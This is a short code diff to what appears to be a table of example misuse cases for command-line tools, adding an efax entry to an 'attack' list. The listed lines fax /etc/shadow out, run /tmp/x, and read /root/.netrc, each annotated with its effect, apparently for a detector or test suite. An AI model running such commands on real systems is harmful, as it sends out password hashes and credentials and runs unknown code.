@@ -104,6 +104,7 @@ export const remoteAccess2: ExampleTable = {
     attack: [
       'efax -d /dev/modem -t 5551234 /etc/shadow → read /etc/shadow; send efax',
       'efax -d /dev/modem -g /tmp/x → run /tmp/x',
+      'efax -d /root/.netrc -t 5551234 page.tif → read /root/.netrc; read page.tif',
     ],
   },
   gtkterm: {
